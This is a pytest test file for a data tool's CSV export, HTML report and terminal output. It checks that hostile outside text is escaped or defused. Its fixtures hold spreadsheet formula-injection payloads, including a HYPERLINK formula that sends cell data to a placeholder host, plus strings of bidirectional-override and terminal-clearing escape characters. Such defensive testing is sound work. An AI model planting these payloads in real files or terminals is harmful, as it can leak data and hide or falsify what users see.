"""Text that came from elsewhere: no formula in a spreadsheet, nothing hidden in a page or on a terminal."""

import csv
import json
import re
import unicodedata
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cvtbatch.cli.display import ProgressDisplay, print_table, say
from cvtbatch.plain_text import for_spreadsheet, hidden_character, visible
from cvtbatch.store import FeatureStore
from cvtbatch.validation.evaluate import Validation, evaluate
from cvtbatch.validation.report import page as report_page
from cvtbatch.validation.report import write_report
from cvtbatch.validation.report.tables import ReportTable
from tests.support.archives import write_rows
from tests.support.browser import find_chromium, open_browser
from tests.support.commands import cvtbatch
from tests.support.store_rows import row
from tests.support.validation_cases import (
    make_bundle,
    make_cohort,
    make_provenance,
    make_readers,
    make_slice,
    make_training,
)

# Turns what follows round, is of no width, rings, clears a terminal, ends a line.
HOSTILE = "\u202eA\u2066\u200b\x07\x1b[2J\x9b2J\u2028\ufeff"
SHOWN = "\\u202eA\\u2066\\u200b\\x07\\x1b[2J\\x9b2J\\u2028\\ufeff"
FORMULAS = ('=HYPERLINK("http://x/?"&A1,"y")', "+1", "-5 HU", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1")


def hidden_in(text: str) -> set[str]:
    """Return characters of a text that do not show, by Unicode's own categories, but for the line feeds of its layout."""
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {ascii(character) for character in set(text) - set("\n\t") if unicodedata.category(character) in kinds}


def test_hidden_characters_are_those_of_unicode() -> None:
    visible_formats = {
        *range(0x600, 0x606),
        0x6DD,
        0x70F,
        0x890,
        0x891,
        0x8E2,
    }  # Arabic and Syriac signs that are drawn.
    for number in range(0x110000 if unicodedata else 0):
        character = chr(number)
        if (
            number < 0x10000
            and number not in visible_formats
            and unicodedata.category(character) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
        ):
            assert hidden_character(character), hex(number)
            assert character in "\n\t" or visible(character) == ascii(character)[1:-1]
    assert visible(HOSTILE) == SHOWN
    assert visible("Köln, 東京, a\tb\nc, \u00a0 − ✗") == "Köln, 東京, a\tb\nc, \u00a0 − ✗"


@pytest.fixture(scope="module")
def old_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store as an earlier version filled it: ids that manifests may no longer hold, and messages that begin like formulas."""
    folder = tmp_path_factory.mktemp("old")
    store = FeatureStore.open_for_writing(str(folder / "store"))
    for number, text in enumerate(FORMULAS):
        case = {"case_key": f"A/{number}", "center": "A", "case_id": f"{number}"}
        store.table("failures").append(
            [row("failures", **case, message=text, kind="bad", scope="extraction", stage="read")]
        )
    odd = {"case_key": "=1+1/-2", "center": "=1+1", "case_id": "-2", "patient": "@p", "extra": "{}", "age": -0.5}
    store.table("cases").append([row("cases", **odd, clinical_digest="x", etiology="+HP")])
    return folder


def export(folder: Path, table: str, suffix: str) -> tuple[pa.Table, str]:
    out = folder / f"{table}{suffix}"
    result = cvtbatch("export", table, "--store", folder / "store", "--out", out, check=True)
    if suffix == ".parquet":
        return pq.read_table(out), result.stderr
    with out.open(encoding="utf-8", newline="") as file:
        return pa.Table.from_pylist(list(csv.DictReader(file))), result.stderr


def test_texts_of_a_csv_export_are_no_formulas(old_store: Path) -> None:
    rows, told = export(old_store, "failures", ".csv")
    assert sorted(rows["message"].to_pylist()) == sorted(f"'{text}" for text in FORMULAS)
    assert told == ""
    rows, told = export(old_store, "failures", ".parquet")
    assert sorted(rows["message"].to_pylist()) == sorted(FORMULAS)
    assert told == ""


def test_ids_of_a_csv_export_are_what_they_are_and_a_warning_says_so(old_store: Path) -> None:
    rows, told = export(old_store, "cases", ".csv")
    [found] = rows.to_pylist()
    assert [found[name] for name in ("case_key", "center", "case_id", "patient")] == ["=1+1/-2", "=1+1", "-2", "@p"]
    assert (found["etiology"], found["age"]) == ("'+HP", "-0.5")
    assert told.startswith("warning: 4 ids begin as formulas do, and are written as they are")
    rows, told = export(old_store, "cases", ".parquet")
    assert (rows["etiology"].to_pylist(), told) == (["+HP"], "")


def test_texts_of_a_reports_tables_are_no_formulas() -> None:
    table = ReportTable("t", "T", ("a", "b", "c"), (("=k", "=x", -1.5), ("k", "+y", None), ("-k", "−3", 2)), keyed=True)
    rows = list(csv.reader(table.to_csv().splitlines()))
    assert rows == [["a", "b", "c"], ["=k", "'=x", "-1.5"], ["k", "'+y", ""], ["-k", "−3", "2"]]
    assert list(csv.reader(replace(table, keyed=False).to_csv().splitlines()))[1][0] == "'=k"
    assert [for_spreadsheet(text) for text in ("", "a=1", "'=1", "1-2")] == ["", "a=1", "'=1", "1-2"]


@pytest.fixture(scope="module")
def hostile() -> Validation:
    """A validation whose every name from elsewhere holds what does not show."""
    found = evaluate(make_cohort(1, 16, HOSTILE), make_bundle(), make_training(1, 40), make_provenance(HOSTILE), seed=1)
    provenance = replace(found.provenance, training_centers=(HOSTILE,), snapshot=HOSTILE, cautions=(HOSTILE,))
    importances = tuple(replace(entry, feature=f"{entry.feature}\u202e") for entry in found.importances)
    readers = (replace(make_readers(1), first=HOSTILE, second=HOSTILE),)
    subgroups = tuple(replace(entry, level=f"{entry.level}\u202e") for entry in found.subgroups)
    flow = tuple(replace(step, excluded=((HOSTILE, 1),), keys=((HOSTILE,),)) for step in found.flow)
    return replace(
        found, provenance=provenance, importances=importances, readers=readers, subgroups=subgroups, flow=flow
    )


@pytest.fixture(scope="module")
def page(hostile: Validation, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Write its report, with the figures that name what came from elsewhere."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(report_page, "draw_performance", lambda _: ())
        return write_report(hostile, make_slice, tmp_path_factory.mktemp("report"))


def test_nothing_hidden_reaches_a_page_or_a_figure(page: Path) -> None:
    text = page.read_text(encoding="utf-8")
    assert hidden_in(text) == set()
    assert f"at centre {SHOWN}</h1>" in text
    for file in (page.parent / "figures").glob("*.svg"):
        assert hidden_in(file.read_text(encoding="utf-8")) == set(), file.name
    # What programs read is what the store has.
    document = json.loads((page.parent / "report.json").read_text(encoding="utf-8"))
    assert document["provenance"]["center"] == HOSTILE
    assert document["cases"][0]["key"] == f"{HOSTILE}/case-0001"
    # A picture for each case but the one that has none.
    assert text.count("data:image/jpeg") == len(document["cases"]) - 1


def test_a_browser_shows_the_escapes_in_order(page: Path) -> None:
    program = find_chromium()
    if program is None:
        pytest.skip("Chromium is not installed (Debian: apt-get install chromium)")
    with open_browser(program) as browser:
        browser.open(page, 1280)
        assert browser.complaints() == []
        for what in ("document.title", "document.body.textContent", "document.documentElement.outerHTML"):
            shown = browser.evaluate(what)
            assert SHOWN in shown, what
            assert hidden_in(shown) == set(), what
        # Every letter of the heading stands right of the one before.
        lefts = browser.evaluate(
            "(() => { const t = document.querySelector('h1').firstChild, r = document.createRange(); "
            "return [...t.data].map((_, k) => { r.setStart(t, k); r.setEnd(t, k + 1); const b = r.getBoundingClientRect(); "
            "return [b.top, b.left] }) })()"
        )
        assert lefts == sorted(lefts)


def test_nothing_hidden_reaches_a_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    say(HOSTILE)
    print_table(HOSTILE, ("a", "b"), [(HOSTILE, 1), ("\udcff.dcm", 2.5)])
    display = ProgressDisplay("extract", quiet=True, unit="cases")
    display.tell(f"failed: {HOSTILE} \udcff.dcm")
    found = capsys.readouterr()
    assert hidden_in(found.out) == hidden_in(found.err) == set()
    assert found.out.count("\\u202eA\\u2066") == 3
    assert found.err == f"failed: {SHOWN} \\udcff.dcm\n"


def test_paths_and_messages_on_a_terminal_show_what_they_hold(tmp_path: Path) -> None:
    """A folder's name may hold anything, and messages name it."""
    folder = tmp_path / "a\u202eb\x1b[2Jc"
    folder.mkdir()
    (folder / "ct.nii.gz").write_bytes(b"broken")
    row_ = {"center": "A", "case_id": "1", "image": "ct.nii.gz"}
    result = cvtbatch("check", write_rows(folder / "manifest.csv", [row_]))
    assert result.returncode == 3
    absent = cvtbatch("check", folder / "absent.csv")
    away = cvtbatch("check", write_rows(folder / "manifest.csv", [{**row_, "image": "gone"}]))
    for text in (result.stdout, absent.stderr, away.stderr):
        assert hidden_in(text) == set()
        assert "a\\u202eb\\x1b[2Jc" in text
    assert re.search(r"\[.*a\\u202eb", result.stdout)
